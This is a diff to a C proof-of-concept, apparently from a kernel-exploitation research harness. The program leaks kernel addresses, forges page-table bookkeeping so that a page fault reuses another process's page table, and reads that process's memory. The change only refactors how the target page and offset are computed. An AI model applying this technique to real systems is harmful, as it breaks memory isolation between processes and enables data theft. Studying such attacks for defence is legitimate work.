@@ -6,16 +6,17 @@ int main(void)
 {
 	volatile char *range = attack_ranges(false);
 	volatile char *second = range + ATTACK_RANGE_BYTES;
-	uint64_t place, table, page, before;
+	uint64_t place, table, offset, before;
+	struct attack_page page;
 	struct attack_frame_books books;
 	struct bw_leak leak;
 
 	attack_begin(&leak, 1, 0);
-	if (attack_first_page(&leak, leak.root_first, &place) == 0) {
+	if (attack_list_pages(&leak, leak.root_first, &page, 1) == 0) {
 		attack_skip("the first process has no page");
 	}
-	table = (place - leak.direct_map_base) / BW_PAGE_SIZE;
-	page = place % BW_PAGE_SIZE / sizeof(place) * BW_PAGE_SIZE;
+	table = (page.place - leak.direct_map_base) / BW_PAGE_SIZE;
+	offset = page.address % ATTACK_RANGE_BYTES;
 	attack_frame_books_read(&leak, table, &books);
 
 	attack_say("frame 0x%lx is a page table of the first process's; the stock at 0x%lx has it "
@@ -24,7 +25,7 @@ int main(void)
 	before = attack_stock_forge(&leak.spare_tables, table);
 	/* a page fault, which takes that table, and finds the page in it */
 	attack_say("first bytes of a page there: 0x%lx",
-		   *(const volatile uint64_t *)(const volatile void *)&second[page]);
+		   *(const volatile uint64_t *)(const volatile void *)&second[offset]);
 	attack_have_witnessed();
 
 	/* each has its own tables again, and the kernel remembers another one than that */
